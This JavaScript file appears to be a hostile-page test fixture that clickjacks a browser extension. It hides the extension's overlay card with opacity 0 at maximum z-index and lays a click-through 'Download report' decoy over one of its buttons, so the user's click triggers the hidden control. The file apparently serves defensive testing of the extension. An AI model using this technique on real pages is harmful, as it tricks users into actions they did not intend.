// Makes the extension's card invisible (and keeps it on top: opacity alone makes its host a
// stacking context that the page's modal would cover) and lays a harmless-looking decoy exactly over one of its
// buttons; the decoy lets clicks through, so the user's click lands on the extension's button.
(() => {
  const hideOverlay = (how) => {
    if (how === 'stylesheet') {
      const style = document.createElement('style');
      style.textContent =
        'lwa-rotator-overlay { opacity: 0 !important; position: relative !important; z-index: 2147483647 !important; }';
      document.head.append(style);
    } else {
      for (const host of document.querySelectorAll('lwa-rotator-overlay'))
        host.setAttribute(
          'style',
          'opacity:0 !important; position:relative !important; z-index:2147483647 !important',
        );
    }
  };
  const placeDecoy = (box) => {
    const decoy = document.createElement('button');
    decoy.id = 'decoy';
    decoy.textContent = 'Download report';
    decoy.style.cssText = `position:fixed;left:${box.x}px;top:${box.y}px;width:${box.width}px;height:${box.height}px;z-index:2147483647;pointer-events:none;background:#2563eb;color:#fff;border:0;border-radius:6px`;
    document.body.append(decoy);
  };
  window.__hostile = Object.assign(window.__hostile || {}, {
    coverWithDecoy(box, how) {
      hideOverlay(how);
      placeDecoy(box);
    },
  });
})();
